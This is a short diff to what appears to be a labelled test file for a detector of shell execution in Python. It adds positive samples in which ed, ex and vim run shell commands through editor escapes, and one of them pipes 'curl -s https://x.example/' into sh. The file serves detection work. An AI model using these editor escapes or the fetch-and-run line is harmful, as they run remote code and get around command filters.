@@ -316,3 +316,10 @@ check("-c", "print(1)")
 #@ neg the test helper's file-making functions
 from test.support import script_helper
 script_helper.make_script(".", "demo", "print(1)")
+#@ pos ed fed a ! line
+import subprocess
+subprocess.run(["ed", "-s", "f.txt"], input="!id\nq\n", text=True)
+#@ pos ex reading a command's output, vim -es calling system()
+import subprocess
+subprocess.run(["ex", "-s", "f"], input="r !curl -s https://x.example/ | sh\nx\n", text=True)
+subprocess.run(["vim", "-es", "f"], input=":call system('id')\n:wq\n", text=True)
